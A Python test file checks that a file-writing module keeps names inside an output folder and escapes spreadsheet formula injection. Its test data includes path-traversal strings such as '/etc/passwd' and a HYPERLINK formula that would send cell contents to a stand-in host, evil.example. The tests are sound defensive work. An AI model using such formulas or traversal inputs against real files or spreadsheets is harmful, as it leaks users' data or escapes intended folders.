"""kit.files: names made from titles stay inside the output folder; writes are atomic."""
from __future__ import annotations

import pytest

from kit import files, report


@pytest.mark.parametrize("title", ["../../escape", "/etc/passwd", "a\x00b", "..", ".", "x" * 5000,
                                   "C:\\Windows\\system32", "~/home", "  ", "<script>alert(1)</script>"])
def test_run_folder_names_from_titles_stay_inside_the_output_folder(title, tmp_path):
    run_dir = report.new_run_dir(tmp_path, title)
    assert tmp_path.resolve() in run_dir.resolve().parents
    assert run_dir.parent.parent == tmp_path.resolve()
    assert len(run_dir.parent.name) <= 60 and "\x00" not in str(run_dir)


@pytest.mark.parametrize("name", ["../x", "/abs/x", "a/../../b", "nul\x00byte", "..", ".hidden", "y" * 500])
def test_output_file_names_are_made_safe(name, tmp_path):
    safe = files.safe_name(name)
    assert "/" not in safe and "\x00" not in safe and not safe.startswith(".") and len(safe) <= 80
    assert files.inside(tmp_path, safe).parent == tmp_path.resolve()
    assert files.safe_name("y" * 500) != files.safe_name("y" * 499 + "z"), "long names stay distinct"


@pytest.mark.parametrize("parts", [("..", "x"), ("/etc", "passwd"), ("a", "..", "..", "b"), ("a\x00",)])
def test_inside_refuses_paths_that_escape(parts, tmp_path):
    with pytest.raises(ValueError):
        files.inside(tmp_path, *parts)


# ---------------------------------------------------------------- spreadsheets (formula injection)

HOSTILE_CELLS = ['=HYPERLINK("https://evil.example/?d="&C2&D2,"Click for the full statement")', "+1+1",
                 "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "plain", "-5", "+1.5e3", "",
                 "'" * 5000 + "=1"]


def hostile_frame():
    import pandas as pd

    return pd.DataFrame({"quote": HOSTILE_CELLS, "count": [-3] * len(HOSTILE_CELLS),
                         "spans": [[[0, 1]]] * len(HOSTILE_CELLS)})


def test_csv_cells_never_start_like_a_formula_and_read_back_exactly(tmp_path):
    import pandas as pd

    path = files.write_frame(hostile_frame(), tmp_path / "t.csv")
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)["quote"].tolist()
    for cell in cells:
        assert cell[:1] not in tuple("=+-@\t\r") or cell in ("-5", "+1.5e3"), cell
    assert cells[0].startswith("'=HYPERLINK") and cells[6] == "''=already quoted" and cells[7] == "plain"
    assert pd.read_csv(path)["count"].tolist() == [-3] * len(HOSTILE_CELLS), "numbers stay numbers"
    back = files.read_spreadsheet_text(pd.read_csv(path, dtype=str, keep_default_na=False))
    assert back["quote"].tolist() == HOSTILE_CELLS


def test_parquet_and_jsonl_keep_the_text_exact(tmp_path):
    import pandas as pd

    assert pd.read_parquet(files.write_frame(hostile_frame(), tmp_path / "t.parquet"))["quote"].tolist() == HOSTILE_CELLS
    assert pd.read_json(files.write_frame(hostile_frame(), tmp_path / "t.jsonl"), lines=True)["quote"].tolist() \
        == HOSTILE_CELLS


def test_xlsx_holds_no_formula_and_takes_control_characters(tmp_path):
    import openpyxl

    frame = hostile_frame()
    frame.loc[len(frame)] = ["line one\x0bline two\x00", 1, [[0, 1]]]  # a vertical tab from Word, a NUL
    sheet = openpyxl.load_workbook(files.write_frame(frame, tmp_path / "t.xlsx")).active
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"], "no live formula"
    assert cells[0][0].value.startswith("'=HYPERLINK") and cells[0][1].value == -3 and cells[0][1].data_type == "n"
    assert cells[-1][0].value == "line one\u27e8U+000B\u27e9line two\u27e8U+0000\u27e9"


# ---------------------------------------------------------------- folder names

@pytest.mark.parametrize("a, b", [("Кремль и Белый дом", "Белый дом и Кремль"), ("🚀", "🔥"),
                                  ("Report 🚀", "Report 🔥"), ("中文标题", "另一个标题"),
                                  ("A" * 60 + " one", "A" * 60 + " two")])
def test_different_titles_get_different_folders(a, b):
    assert files.slugify(a) != files.slugify(b)
    for title in (a, b):
        slug = files.slugify(title)
        assert slug != "report" and len(slug) <= 60 and slug.isascii() and files.slugify(slug) == slug


def test_cyrillic_titles_are_transliterated():
    assert files.slugify("Кремль и Белый дом") == "kreml-i-belyy-dom"
    assert files.slugify("Зеленський у Києві") == "zelenskiy-u-kiyevi"
    assert files.slugify("Café Zürich, February") == "cafe-zurich-february"
    assert files.slugify("Who said what") == "who-said-what" and files.slugify("  ") == "report"


# ---------------------------------------------------------------- file modes

def test_every_file_written_gets_the_umask_mode(tmp_path):
    import os
    import stat

    mask = os.umask(0o022)
    os.umask(mask)
    mode = 0o666 & ~mask
    files.write_json(tmp_path / "a.json", {"a": 1})
    files.write_frame(hostile_frame(), tmp_path / "t.csv")
    files.write_frame(hostile_frame(), tmp_path / "t.parquet")
    files.atomic_write_bytes(tmp_path / "b.bin", b"x")
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir()} == \
        dict.fromkeys(["a.json", "t.csv", "t.parquet", "b.bin"], mode)
    (tmp_path / "a.json").chmod(0o640)
    files.write_json(tmp_path / "a.json", {"a": 2})
    assert stat.S_IMODE((tmp_path / "a.json").stat().st_mode) == 0o640, "a replaced file keeps its mode"
